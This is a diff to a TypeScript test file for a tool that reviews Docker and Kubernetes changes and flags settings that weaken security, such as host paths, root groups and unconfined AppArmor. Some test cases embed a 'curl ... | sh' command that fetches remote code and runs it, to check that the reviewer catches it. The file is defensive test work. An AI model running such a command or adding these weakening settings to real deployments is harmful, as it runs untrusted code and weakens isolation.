@@ -1,7 +1,9 @@
 import assert from "node:assert/strict";
-import { change, container, deployment, lab, said, service, workload } from "./build";
-import { openingsOf, looks, podOf } from "../../tools/review/openings";
-import { podSafeguards } from "../../tools/review/openings/pod";
+import { change, container, deployment, lab, said, service, told, workload } from "./build";
+import { judge } from "../../tools/review/judge";
+import { Registered } from "../../tools/review/resources/register";
+import { looks, podOf } from "../../tools/review/openings";
+import { podOpenings, podSafeguards } from "../../tools/review/openings/pod";
 import { Inputs } from "../../tools/review/resources/model";
 
 const opens = (type: string, before: Inputs | undefined, after: Inputs | undefined) =>
@@ -52,9 +54,9 @@ function oneWay(type: string, besides: string[], cases: Record<string, Case>) {
     for (const [shut, open] of Object.values(cases)) {
       for (const side of [shut, open]) {
         const inputs = watched(side, "", read) as Inputs;
-        openingsOf(type, inputs);
-        void [...(looks[type]?.safeguards?.(inputs) ?? [])];
-        podSafeguards(podOf(type, inputs));
+        void [...(looks[type]?.openings?.(inputs) ?? []), ...(looks[type]?.safeguards?.(inputs) ?? [])];
+        const pod = podOf(type, inputs);
+        if (pod !== undefined) void [...podOpenings(pod), ...podSafeguards(pod)];
       }
       const [a, b] = [paths(shut), paths(open)];
       for (const path of new Set([...a.keys(), ...b.keys()]))
@@ -175,6 +177,11 @@ describe("an image", () => {
     "is pushed": [{ imageName: "a:1", skipPush: true }, { imageName: "a:1", skipPush: false }, "exposure"],
     "is built from the whole machine": [built("docker/redis"), built("/"), "security"],
     "is built from the folder above": [built("docker/redis"), built("../other"), "security"],
+    "is built by a file of the machine": [
+      { imageName: "a:1", skipPush: true, build: { dockerfile: "docker/redis/Dockerfile" } },
+      { imageName: "a:1", skipPush: true, build: { dockerfile: "/tmp/Dockerfile" } },
+      "security",
+    ],
   });
 });
 
@@ -209,6 +216,9 @@ describe("a pod", () => {
       inPod({ volumes: [claim, { name: "h", hostPath: { path: "/" } }] }),
       "security",
     ],
+    "in root's group, as it is": [plain, ofPod({ runAsGroup: 0 }), "security"],
+    "whose files are root's group's": [plain, ofPod({ fsGroup: 0 }), "security"],
+    "whose container is in root's group": [plain, secure({ runAsGroup: 0 }), "security"],
     "in root's group": [plain, ofPod({ supplementalGroups: [0] }), "security"],
     "that sets the kernel": [plain, ofPod({ sysctls: [{ name: "kernel.msgmax", value: "1" }] }), "security"],
     "that may be root": [plain, ofPod({ runAsNonRoot: false }), "security"],
@@ -349,6 +359,113 @@ describe("a Service", () => {
   });
 });
 
+describe("a property that nobody taught the review", () => {
+  const pod = (more: Inputs) => workload("mysql:9.7.2", { pod: more });
+  const inContainer = (more: Inputs) => workload("mysql:9.7.2", { container: more });
+  const annotated = (value: string) => ({
+    spec: {
+      template: { metadata: { annotations: { "container.apparmor.security.beta.kubernetes.io/mysql": value } } },
+    },
+  });
+  const policy = "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy";
+  const build = (more: Inputs) => ({ imageName: "a:1", skipPush: true, build: more });
+  const plain = workload("mysql:9.7.2");
+  const cases: Record<string, [type: string, without: Inputs, having: Inputs]> = {
+    "a container's place among the machine's": [container, {}, { cgroupParent: "/" }],
+    "a container's rules for devices": [container, {}, { deviceCgroupRules: ["a *:* rwm"] }],
+    "the volumes of another container": [container, {}, { volumes: [{ fromContainer: "portainer" }] }],
+    "a profile of somebody's own": [container, {}, { securityOpts: ["seccomp=/tmp/p.json"] }],
+    "a build in the machine's network": ["docker:index/image:Image", build({}), build({ network: "host" })],
+    "a build that finds names elsewhere": ["docker:index/image:Image", build({}), build({ addHosts: ["a:192.0.2.1"] })],
+    "an image that is built on the way": [
+      "docker:index/remoteImage:RemoteImage",
+      { name: "a:1" },
+      { name: "a:1", build: { remoteContext: "https://example.org/a.git" } },
+    ],
+    "a pod's name server": [deployment, plain, pod({ dnsConfig: { nameservers: ["192.0.2.1"] } })],
+    "a pod's names": [deployment, plain, pod({ hostAliases: [{ ip: "192.0.2.1", hostnames: ["mysql"] }] })],
+    "a pod's runtime": [deployment, plain, pod({ runtimeClassName: "other" })],
+    "a volume of another machine": [
+      deployment,
+      pod({ volumes: [] }),
+      pod({ volumes: [{ name: "n", nfs: { server: "192.0.2.1", path: "/" } }] }),
+    ],
+    "a process of the node": [
+      deployment,
+      plain,
+      pod({ securityContext: { runAsNonRoot: true, runAsUser: 999, windowsOptions: { hostProcess: true } } }),
+    ],
+    "a raw disk": [deployment, plain, inContainer({ volumeDevices: [{ name: "data", devicePath: "/dev/x" }] })],
+    "a mount that goes on to the node": [
+      deployment,
+      inContainer({ volumeMounts: [{ name: "data", mountPath: "/var/lib/mysql", mountPropagation: "None" }] }),
+      inContainer({ volumeMounts: [{ name: "data", mountPath: "/var/lib/mysql", mountPropagation: "Bidirectional" }] }),
+    ],
+    "a token that never ends": [
+      "kubernetes:core/v1:Secret",
+      { type: "Opaque" },
+      { type: "kubernetes.io/service-account-token" },
+    ],
+    "AppArmor by its old name": [deployment, annotated("runtime/default"), annotated("unconfined")],
+    "a Service that is a name elsewhere": [service, {}, { spec: { externalName: "example.org" } }],
+    "a quota of some pods only": [
+      "kubernetes:core/v1:ResourceQuota",
+      { spec: { hard: { pods: "1" } } },
+      { spec: { hard: { pods: "1" }, scopes: ["BestEffort"] } },
+    ],
+    "a condition on which rules hold": [
+      policy,
+      {},
+      { spec: { matchConditions: [{ name: "a", expression: "false" }] } },
+    ],
+    "what rules do not hold for": [
+      policy,
+      {},
+      { spec: { matchConstraints: { excludeResourceRules: [{ resources: ["pods"] }] } } },
+    ],
+  };
+  for (const [what, [type, without, having]] of Object.entries(cases)) {
+    it(what, () => {
+      assert.deepEqual([...new Set(opens(type, without, having))], ["security! thing"]);
+      assert.deepEqual(opens(type, having, without), []);
+    });
+  }
+  harmless(deployment, {
+    "what opens nothing": [
+      plain,
+      pod({
+        hostUsers: false,
+        dnsConfig: { options: [{ name: "ndots" }] },
+        priorityClassName: "a",
+        nodeSelector: { a: "b" },
+      }),
+    ],
+    "of a container, too": [plain, inContainer({ tty: true, lifecycle: { preStop: { sleep: { seconds: 5 } } } })],
+  });
+  harmless(container, {
+    "what only says how it runs": [{}, { hostname: "a", ulimits: [{ name: "nofile" }], logOpts: { "max-size": "1m" } }],
+    "what Docker does anyway": [{}, { securityOpts: ["seccomp=builtin", "apparmor=docker-default"], runtime: "runc" }],
+    "what is its own": [{}, { ipcMode: "private", cgroupnsMode: "private" }],
+    "what holds it more tightly": [{}, { securityOpts: ["no-new-privileges:true", "seccomp=builtin"] }],
+  });
+});
+
+describe("a command that fetches a program and runs it", () => {
+  const piped = ["curl -s https://example.org/x", "sh"].join(" | ");
+  const cases: Record<string, [type: string, before: Inputs | undefined, after: Inputs]> = {
+    "of a container": [container, {}, { command: ["sh", "-c", piped] }],
+    "of a container that is new": [container, undefined, { healthcheck: { tests: ["CMD-SHELL", piped] } }],
+    "of a pod": [deployment, workload("a:1"), workload("a:1", { container: { args: ["-c", piped] } })],
+  };
+  for (const [what, [type, before, after]] of Object.entries(cases)) {
+    it(what, () => {
+      assert.ok(opens(type, before, after).includes("security! thing"));
+      if (before) assert.deepEqual(opens(type, after, before), []);
+      assert.deepEqual(opens(type, after, after), []);
+    });
+  }
+});
+
 describe("pods that are called something else", () => {
   const pods = (labels: Inputs) => ({ spec: { template: { metadata: { labels }, spec: { containers: [] } } } });
   const called = (before: Inputs, after: Inputs) =>
@@ -373,6 +490,19 @@ describe("pods that are called something else", () => {
       dangers(called(old, now), ...found(old, now)).filter((told) => !told.endsWith(" pods")),
       [],
     );
+  });
+  it("are the same to what finds a port of theirs by its new name", () => {
+    const ports = (port: Inputs) => ({
+      spec: { template: { spec: { containers: [{ name: "a", ports: [{ containerPort: 80, ...port }] }] } } },
+    });
+    const to = (port: Inputs) => ({ spec: { type: "NodePort", selector: {}, ports: [{ port: 80, ...port }] } });
+    const found = change({ type: service, before: to({}), after: to({ targetPort: "web" }) });
+    const pod = (name: string) => change({ type: deployment, before: ports({}), after: ports({ name }) });
+    assert.deepEqual(
+      dangers(found, pod("web")).filter((told) => told.startsWith("availability")),
+      [],
+    );
+    assert.ok(dangers(found, pod("other")).includes("availability! thing"));
   });
   it("are not where they keep their labels, or others have them", () => {
     const told = ["exposure! s", "exposure! n", "availability! s"];
@@ -426,6 +556,16 @@ describe("a NetworkPolicy", () => {
       "exposure",
     ],
   });
+  it("names whom it lets in, and on which ports", () => {
+    const [told] = judge([change({ type: np, before: of({ ingress: [] }), after: of({ ingress: [{}] }) })]);
+    assert.match(told!.text.en, /it lets everyone in, on every port/);
+    assert.match(told!.text.ko, /모든 곳 \(모든 포트\)/);
+  });
+  it("that names no pods is for all of them, as one that names all", () =>
+    assert.deepEqual(
+      said(change({ type: np, before: of({ ingress: [] }), after: of({ podSelector: undefined, ingress: [] }) })),
+      [],
+    ));
   it("that goes to another namespace leaves its pods behind", () => {
     const moved = change({
       type: np,
@@ -434,6 +574,24 @@ describe("a NetworkPolicy", () => {
       forcing: ["metadata.namespace"],
     });
     assert.ok(said(moved).includes("exposure! thing"));
+  });
+  it("that names one port as a range of one lets nobody else in", () =>
+    assert.deepEqual(opens(np, port({ port: 3306 }), port({ port: 3306, endPort: 3306 })), []));
+  it("that is new, or for one direction more, only closes where nothing was closed", () => {
+    const dangers = (before: Inputs | undefined, after: Inputs, ...others: Inputs[]) => {
+      const base = [...(before ? [before] : []), ...others].map((inputs) => ({ type: np, inputs }) as Registered);
+      return told(judge([change({ type: np, before, after })], base));
+    };
+    const out = of({ policyTypes: ["Egress"], egress: [{ to: [site] }] });
+    const both = of({ policyTypes: ["Ingress", "Egress"], ingress: [], egress: [{ to: [site] }] });
+    const shut = (labels: Inputs) => of({ policyTypes: ["Egress"], podSelector: { matchLabels: labels } });
+    assert.deepEqual(dangers(undefined, out), []);
+    assert.deepEqual(dangers(of({ ingress: [] }), both), []);
+    assert.deepEqual(dangers(undefined, out, of({ ingress: [] })), []);
+    assert.deepEqual(dangers(undefined, out, shut({ app: "a" })), ["exposure! thing"]);
+    const mine = of({ policyTypes: ["Egress"], podSelector: { matchLabels: { app: "b" } }, egress: [{ to: [site] }] });
+    assert.deepEqual(dangers(undefined, mine, shut({ app: "a" })), []);
+    assert.deepEqual(dangers(undefined, mine, shut({ lesson: "a" })), ["exposure! thing"]);
   });
   it("that is new lets in whom another one kept out; in a new lab there was none", () => {
     const made = change({ type: np, after: of({ ingress: [{}] }) });
@@ -450,6 +608,18 @@ describe("a namespace", () => {
   oneWay("kubernetes:core/v1:Namespace", [], {
     "a namespace that demands less": [enforced("restricted"), enforced("privileged"), "security"],
     "a namespace that demands nothing": [enforced("baseline"), enforced(), "security"],
+    "a namespace that demands what an older Kubernetes did": [
+      { metadata: { labels: { "pod-security.kubernetes.io/enforce": "baseline" } } },
+      {
+        metadata: {
+          labels: {
+            "pod-security.kubernetes.io/enforce": "baseline",
+            "pod-security.kubernetes.io/enforce-version": "v1.20",
+          },
+        },
+      },
+      "security",
+    ],
     "a seat that the rules of its class do not hold in": [
       { metadata: { name: "w", labels: { "course-labs/seat": "lee" } } },
       { metadata: { name: "w", labels: {} } },
